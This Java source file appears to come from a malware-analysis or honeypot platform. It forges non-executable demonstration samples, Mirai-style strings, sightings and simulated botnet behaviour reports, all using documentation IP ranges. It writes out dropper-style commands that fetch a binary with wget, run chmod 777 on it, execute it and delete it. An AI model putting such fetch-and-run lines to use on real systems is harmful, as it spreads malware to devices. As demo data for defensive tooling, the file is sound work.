package teiten.run;

import teiten.lab.Behaviour;
import teiten.lab.Behaviour.Act;
import teiten.lab.Behaviour.Controller;
import teiten.lab.Behaviour.Hidden;
import teiten.lab.Behaviour.Target;
import teiten.lab.BehaviourJson;
import teiten.sample.ElfFacts;
import teiten.sample.FamilyRules;
import teiten.sample.Provenance;
import teiten.sample.SampleFacts;
import teiten.sample.SampleReader;
import teiten.store.SampleImports;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;

/// Samples for the demonstration: files forged here, never a real program, each marked DEMO in the store. They are read
/// by the same readers as real ones. What they "did" is made up, as is the traffic of the simulated sensors beside it.
///
/// **Nothing of it can run**: a forged file has no executable segment and no code, only filler and published words.
/// Hosts and addresses are of the ranges set aside for documentation.
public final class DemoSamples {
    private static final long SEED = 5;

    /// @param machine `e_machine`
    private record Maker(
            String label, String suffix, int machine, boolean wide, boolean big, int flags) {}

    private static final List<Maker> MAKERS =
            List.of(
                    new Maker("ARM", "arm", 40, false, false, 0x05000200),
                    new Maker("MIPS", "mips", 8, false, true, 0x50001007),
                    new Maker("MIPS", "mpsl", 8, false, false, 0x50001007),
                    new Maker("PowerPC", "ppc", 20, false, true, 0),
                    new Maker("SuperH", "sh4", 42, false, false, 9),
                    new Maker("SPARC", "spc", 2, false, true, 0),
                    new Maker("m68k", "m68k", 4, false, true, 0),
                    new Maker("x86", "x86", 3, false, false, 0),
                    new Maker("AArch64", "arm64", 183, true, false, 0));

    /// A source that is built for several CPUs, again and again.
    ///
    /// @param file its file name before the CPU's suffix
    /// @param key of its hidden table; 0 leaves it in plain
    private record Kin(
            String name,
            String file,
            int key,
            String server,
            List<String> words,
            List<Integer> makers,
            int builds) {}

    private static final List<Kin> KINS =
            List.of(
                    new Kin(
                            "telnet",
                            "mirai",
                            0x22,
                            "192.0.2.7",
                            List.of(
                                    "/bin/busybox DEMO",
                                    "listening tun0",
                                    "TSource Engine Query",
                                    "/dev/misc/watchdog",
                                    "/proc/net/tcp",
                                    "enable",
                                    "system",
                                    "shell",
                                    "cnc.example.net",
                                    "http://192.0.2.7/bins/demo.arm"),
                            List.of(0, 1, 2, 3, 4, 5, 6, 7),
                            3),
                    new Kin(
                            "netis",
                            "axis",
                            0,
                            "198.51.100.23",
                            List.of(
                                    "GETLOCALIP",
                                    "PONG!",
                                    "My IP: %s",
                                    "BUILD %s:%s",
                                    "http://198.51.100.23:8080/n/get",
                                    "User-Agent: demo/1.0",
                                    "wget http://198.51.100.23:8080/n/demo.sh -O /tmp/.d"),
                            List.of(0, 1, 2, 3, 4),
                            2),
                    new Kin(
                            "proxy",
                            "demo",
                            0x54,
                            "203.0.113.90",
                            List.of(
                                    "update.example.org",
                                    "Mozilla/5.0 (demo)",
                                    "GET /list HTTP/1.1",
                                    "/var/tmp/.demo",
                                    "http://203.0.113.90/u"),
                            List.of(0, 2, 8),
                            1));

    /// A download that a visitor of the demonstration's decoy asked for.
    public record Download(String sensor, String session, String url, Instant time) {}

    private static final int MOST_SIGHTINGS = 200;

    private final Instant begin;
    private final Duration span;
    private final List<Download> downloads;
    private final SplittableRandom chance = new SplittableRandom(SEED);

    private DemoSamples(Instant begin, Duration span, List<Download> downloads) {
        this.begin = begin;
        this.span = span;
        this.downloads = downloads;
    }

    /// Forges the samples, reads them, and stores them with sightings and runs from `begin` on, spread over `span`.
    /// Doing it again changes nothing.
    ///
    /// @param downloads what the simulated visitors fetched; the samples come by those whose file names fit, so that
    ///     their chain begins with a session
    /// @return how many samples there are
    public static int store(
            SampleImports imports, Instant begin, Duration span, List<Download> downloads) {
        return new DemoSamples(begin, span, downloads).store(imports);
    }

    private int store(SampleImports imports) {
        SampleReader reader = new SampleReader(FamilyRules.builtIn());
        List<SampleImports.Kept> kept = new ArrayList<>();
        List<Runnable> runs = new ArrayList<>();
        for (Kin kin : KINS) {
            for (int build = 0; build < kin.builds; build++) {
                for (int place : kin.makers) {
                    Maker maker = MAKERS.get(place);
                    SampleFacts facts = reader.read(forge(kin, maker, build));
                    List<Provenance> sightings = sightings(kin, maker, build);
                    kept.add(new SampleImports.Kept(facts, sightings));
                    if (facts.content() instanceof SampleFacts.Elf(ElfFacts elf)
                            && build == kin.builds - 1) {
                        String report = BehaviourJson.of(behaviour(kin, facts, elf, chance));
                        long ran = sightings.getFirst().time().plusSeconds(5_400).toEpochMilli();
                        runs.add(() -> imports.storeRun(report, ran, true));
                    }
                }
            }
        }
        Instant first = begin.plus(span.dividedBy(3));
        kept.add(
                new SampleImports.Kept(
                        reader.read(dropper()),
                        List.of(
                                new Provenance(
                                        "", "http://192.0.2.7/demo.sh", "demo-telnet", first))));
        imports.store(kept, true);
        runs.forEach(Runnable::run);
        return kept.size();
    }

    /// The downloads of that file name in the build's part of the span; where there are none, made-up ones.
    private List<Provenance> sightings(Kin kin, Maker maker, int build) {
        long part = span.toSeconds() / kin.builds;
        Instant from = begin.plusSeconds(build * part);
        Instant until = from.plusSeconds(part);
        String name = "/" + kin.file + "." + maker.suffix;
        List<Provenance> all = new ArrayList<>();
        for (Download one : downloads) {
            if (one.url.endsWith(name)
                    && !one.time.isBefore(from)
                    && one.time.isBefore(until)
                    && all.size() < MOST_SIGHTINGS) {
                all.add(new Provenance(one.session, one.url, one.sensor, one.time));
            }
        }
        Instant at = from.plusSeconds(chance.nextLong(Math.max(1, part * 3 / 4)));
        for (int left = all.isEmpty() ? 1 + chance.nextInt(6) : 0; left > 0; left--) {
            if (at.isBefore(begin.plus(span))) {
                all.add(
                        new Provenance(
                                "", "http://" + kin.server + "/bins" + name, "demo-telnet", at));
            }
            at = at.plusSeconds(3_600 + chance.nextInt(400_000));
        }
        all.sort(java.util.Comparator.comparing(Provenance::time));
        return all;
    }

    /// A header that is honest about CPU and order, one segment that may be read and not run, filler, words.
    private static byte[] forge(Kin kin, Maker maker, int build) {
        int header = maker.wide ? 64 : 52;
        int entry = maker.wide ? 56 : 32;
        byte[] words = words(kin, build);
        int filler = 6_000 + 512 * build;
        byte[] file = new byte[header + entry + filler + words.length];
        fill(
                file,
                new SplittableRandom(
                        kin.name.hashCode() * 31L + maker.machine * 2L + (maker.big ? 1 : 0)));
        java.util.Arrays.fill(file, 0, header + entry, (byte) 0);
        java.nio.ByteBuffer out =
                java.nio.ByteBuffer.wrap(file)
                        .order(
                                maker.big
                                        ? java.nio.ByteOrder.BIG_ENDIAN
                                        : java.nio.ByteOrder.LITTLE_ENDIAN);
        out.put(new byte[] {0x7f, 'E', 'L', 'F'});
        out.put((byte) (maker.wide ? 2 : 1)).put((byte) (maker.big ? 2 : 1)).put((byte) 1);
        out.position(16);
        out.putShort((short) 2).putShort((short) maker.machine).putInt(1);
        word(out, maker.wide, 0x10000 + header);
        word(out, maker.wide, header);
        word(out, maker.wide, 0);
        out.putInt(maker.flags);
        out.putShort((short) header).putShort((short) entry).putShort((short) 1);
        out.putShort((short) 0).putShort((short) 0).putShort((short) 0);
        out.putInt(1);
        if (maker.wide) {
            // readable only
            out.putInt(4);
        }
        word(out, maker.wide, 0);
        word(out, maker.wide, 0x10000);
        word(out, maker.wide, 0x10000);
        word(out, maker.wide, file.length);
        word(out, maker.wide, file.length);
        if (!maker.wide) {
            out.putInt(4);
        }
        word(out, maker.wide, 0x1000);
        System.arraycopy(words, 0, file, file.length - words.length, words.length);
        return file;
    }

    /// As uneven as machine code, which uses some bytes far more than others.
    private static void fill(byte[] file, SplittableRandom chance) {
        byte[] common = {
            0, 0, 0, 1, 4, 8, 0x10, 0x1f, (byte) 0x8f, (byte) 0x8c, (byte) 0xe5, (byte) 0xff
        };
        for (int i = 0; i < file.length; i++) {
            file[i] =
                    i % 4 == 1 ? (byte) chance.nextInt(256) : common[chance.nextInt(common.length)];
        }
    }

    private static void word(java.nio.ByteBuffer out, boolean wide, long value) {
        if (wide) {
            out.putLong(value);
        } else {
            out.putInt((int) value);
        }
    }

    private static byte[] words(Kin kin, int build) {
        StringBuilder text = new StringBuilder("\0\0\0\0");
        kin.words.forEach(word -> text.append(word).append('\0'));
        text.append("build ").append(build).append('\0').append("\0\0\0\0");
        byte[] bytes = text.toString().getBytes(StandardCharsets.ISO_8859_1);
        for (int i = 0; i < bytes.length; i++) {
            bytes[i] ^= (byte) kin.key;
        }
        return bytes;
    }

    private static byte[] dropper() {
        StringBuilder text = new StringBuilder("#!/bin/sh\n# forged for the demonstration\n");
        for (Maker maker : MAKERS) {
            text.append("wget http://192.0.2.7/bins/demo.")
                    .append(maker.suffix)
                    .append(" -O demo; chmod 777 demo; ./demo telnet.")
                    .append(maker.suffix)
                    .append("; rm -f demo\n");
        }
        return text.toString().getBytes(StandardCharsets.ISO_8859_1);
    }

    private static Behaviour behaviour(
            Kin kin, SampleFacts facts, ElfFacts elf, SplittableRandom chance) {
        boolean telnet = kin.name.equals("telnet");
        boolean quiet = kin.name.equals("proxy");
        long wall = 15_000;
        int attempts = 1_800 + chance.nextInt(900);
        List<Target> targets =
                quiet
                        ? List.of()
                        : telnet
                                ? List.of(
                                        search("tcp/23", attempts, attempts, 420, wall),
                                        search("tcp/2323", attempts / 9, attempts / 9, 460, wall))
                                : List.of(
                                        search("udp/53413", attempts, 0, 380, wall),
                                        search("tcp/23", attempts / 4, 0, 400, wall));
        List<Act> files =
                List.of(
                        new Act("writes", "/tmp/.d", true, 1, 36),
                        new Act("deletes itself", "/tmp/a", true, 1, 41));
        List<Act> processes =
                List.of(
                        new Act("names itself", telnet ? "sshd" : "httpd", true, 1, 12),
                        new Act("opens the watchdog", "/dev/watchdog", true, 1, 19),
                        new Act("forks", "", true, 3, 55),
                        new Act("looks through all processes", "", true, 1, 90),
                        new Act("tries ptrace", "", false, 1, 110));
        return new Behaviour(
                facts.hashes().sha256(),
                elf.cpu().family().label(),
                elf.endianness().value()
                        + "-endian, "
                        + (elf.elfClass().is("ELF64") ? 64 : 32)
                        + "-bit",
                "demo",
                "time",
                wall,
                quiet ? List.of("update.example.org") : List.of("cnc.example.net"),
                1,
                List.of(
                        new Controller(
                                "203.0.113.10",
                                telnet ? 23_231 : 8_080,
                                quiet ? "update.example.org" : "cnc.example.net",
                                telnet
                                        ? "\\x00\\x00\\x00\\x01"
                                        : "BUILD DEMO:" + elf.cpu().family().label() + "\\n",
                                "OK\\r\\n",
                                130 + chance.nextInt(200))),
                targets,
                telnet
                        ? List.of(
                                new Behaviour.Avoided("10.0.0.0/8", 0, attempts / 256.0),
                                new Behaviour.Avoided("224.0.0.0/3", 0, attempts / 8.0))
                        : List.of(),
                List.of(),
                files,
                processes,
                List.of(),
                List.of("time"),
                List.of(
                        Hidden.RECOGNISABLE,
                        Hidden.TIME,
                        Hidden.NO_REAL_CONTROLLER,
                        Hidden.MEMORY_ONLY));
    }

    private static Target search(String service, int attempts, int mirai, long at, long wall) {
        return new Target(
                service,
                attempts,
                attempts,
                mirai,
                Math.round(attempts * 10_000.0 / (wall - at)) / 10.0,
                at,
                wall - 40);
    }
}
